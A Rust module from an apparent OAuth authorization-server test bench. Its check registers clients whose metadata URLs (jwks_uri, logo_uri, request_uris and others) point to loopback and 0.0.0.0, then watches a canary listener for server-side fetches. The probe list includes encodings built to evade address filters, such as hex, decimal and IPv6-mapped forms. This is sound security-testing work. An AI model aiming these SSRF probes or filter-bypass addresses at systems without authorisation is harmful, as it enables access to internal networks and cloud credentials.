//! A client that registers itself names addresses: of its keys, its logo, its sector. The server opens some of them, and
//! stands where the attacker does not: on a machine, in a network, with a cloud's credentials one request away.

use mock_idp::MockIdp;
use serde_json::{Value, json};

use crate::attack::{Capability, Idea, Inconclusive, Need, On, ServerAttack, story};
use crate::bench::Bench;
use crate::judge::Finding;
use crate::key::Key;
use crate::target::Registration;
use crate::verdict::{Level, Verdict};

use super::registering::{REDIRECT_URI, forget, honest, newcomer, register, registered};

/// `as-dcr-ssrf`
pub(super) const ATTACK: ServerAttack = ServerAttack {
    idea: Idea {
        id: "as-dcr-ssrf",
        name: "Registration of addresses inside the network",
        story: story!("dcr_ssrf.rs"),
        capabilities: &[Capability::A1],
        citation: "RFC 7591 section 5, RFC 9700 section 4.11, CVE-2021-26715, CVE-2026-1180",
        steps: &[
            "Listen on the machine that the attack runs on.",
            "Register clients whose jwks_uri, logo_uri, sector_identifier_uri and request_uris lead there.",
            "Authenticate as those that were registered, so that their keys are needed.",
            "Call a client by an address there, if the server takes addresses for clients.",
        ],
        secure: "Nobody comes.",
        insecure: "The server opens an address that only it can reach.",
        defence: "Addresses that strangers name are opened outside of the own network alone.",
        level: Level::Must,
        levels: &[],
    },
    on: On::Nobody,
    needs: &[Need::Endpoint("registration_endpoint"), Need::Permission],
    run: |bench, client| Box::pin(run(bench, client)),
};

/// The members of a client's metadata that are addresses.
const MEMBERS: &[&str] = &["jwks_uri", "logo_uri", "sector_identifier_uri", "request_uris", "client_uri"];

/// No address at all, which leads to the machine itself: as text, in hexadecimal, and in IPv6.
const EVERYWHERE: &[&str] = &["0.0.0.0", "0x0.0", "[::ffff:0.0.0.0]"];
/// The machine itself, as text and as a filter of texts may not know it.
const LOOPBACK: &[&str] = &["127.0.0.1", "localhost", "2130706433", "0x7f.1", "[::ffff:127.0.0.1]"];

async fn run(bench: &Bench, _client: &Registration) -> Result<(), Inconclusive> {
    forget(bench, Some(newcomer(bench).await?)).await;
    let canary = MockIdp::start().await;
    let port = canary.address().map_or(0, |address| address.port());
    // A server on this machine may know others on it, as in tests; an address that is nobody's is inside for all.
    let here = is_here(&bench.target().metadata().issuer);
    let hosts = EVERYWHERE.iter().chain(if here { &[][..] } else { LOOPBACK });
    for host in hosts {
        for member in MEMBERS {
            visit(bench, &format!("http://{host}:{port}"), member).await?;
        }
    }
    let host = if here { EVERYWHERE[0] } else { LOOPBACK[0] };
    if bench.target().document()["client_id_metadata_document_supported"] == true {
        let called = Registration::public(format!("http://{host}:{port}/client.json"), REDIRECT_URI);
        bench.authorization(&called).not_pushed().open().await?;
    }
    let finding = match canary.journal().is_empty() {
        true => Finding::new(Verdict::Stopped, "the server opens no address inside its network"),
        false => Finding::new(Verdict::Vulnerable, "the server opened an address that a stranger named"),
    };
    bench.found(finding, None);
    Ok(())
}

/// Whether a server is on the machine that the attack runs on.
fn is_here(issuer: &str) -> bool {
    let url = url::Url::parse(issuer).ok();
    url.is_some_and(|url| matches!(url.host_str(), Some("127.0.0.1" | "[::1]" | "localhost")))
}

/// Registers a client with this address, and authenticates as it.
async fn visit(bench: &Bench, place: &str, member: &str) -> Result<(), Inconclusive> {
    let address = format!("{place}/{member}");
    let mut metadata = honest();
    metadata[member] = if member == "request_uris" { json!([address]) } else { Value::from(address) };
    if member == "jwks_uri" {
        metadata["token_endpoint_auth_method"] = "private_key_jwt".into();
    }
    let answer = register(bench, &metadata).await?;
    let Some(registered) = registered(&answer) else { return Ok(()) };
    if member == "jwks_uri" {
        let key = Key::fresh().map_err(|error| Inconclusive::new(error.to_string()))?;
        let client = Registration::keyed(&registered.client.client_id, key, REDIRECT_URI);
        let form = oauth_types::Params::new().with("grant_type", "authorization_code").with("code", "none");
        bench.request(&client, "token_endpoint", form).send().await?;
    }
    forget(bench, Some(registered)).await;
    Ok(())
}
